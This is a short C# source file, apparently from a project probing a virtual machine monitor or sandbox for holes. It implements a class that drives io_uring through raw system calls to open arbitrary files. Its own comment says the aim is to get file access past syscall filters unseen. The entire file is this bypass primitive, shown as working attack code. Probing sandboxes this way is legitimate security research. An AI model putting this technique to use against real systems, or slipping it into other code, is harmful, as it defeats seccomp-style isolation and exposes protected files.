namespace Vmm.Hole;

/// <summary>An io_uring of the attacker's own: what is done with it no filter of system calls sees.</summary>
internal static class Ring
{
    private const int Setup = 425, Enter = 426, MapMemory = 9;
    private const byte OpenAt = 18;

    /// <summary>Opens a file by a ring.</summary>
    internal static long Open(HoleGuest guest, string path)
    {
        long parameters = guest.Bytes(new byte[120]);
        long fd = guest.Call(Setup, 1, parameters);
        if (fd < 0) return fd;
        long rings = guest.Call(MapMemory, 0, 4096, 3, 1, fd, 0), entries = guest.Call(MapMemory, 0, 4096, 3, 1, fd, 0x10000000);
        int Offset(int at) => guest.ReadInt(parameters + at);
        byte[] entry = new byte[64];
        entry[0] = OpenAt;
        BitConverter.TryWriteBytes(entry.AsSpan(4), -100);
        BitConverter.TryWriteBytes(entry.AsSpan(16), guest.Text(path));
        guest.Write(entries, entry);
        guest.WriteInt(rings + Offset(64), 0);
        guest.WriteInt(rings + Offset(44), 1);
        long entered = guest.Call(Enter, fd, 1, 1, 1, 0, 0);
        return entered < 0 ? entered : guest.ReadInt(rings + Offset(100) + 8);
    }
}
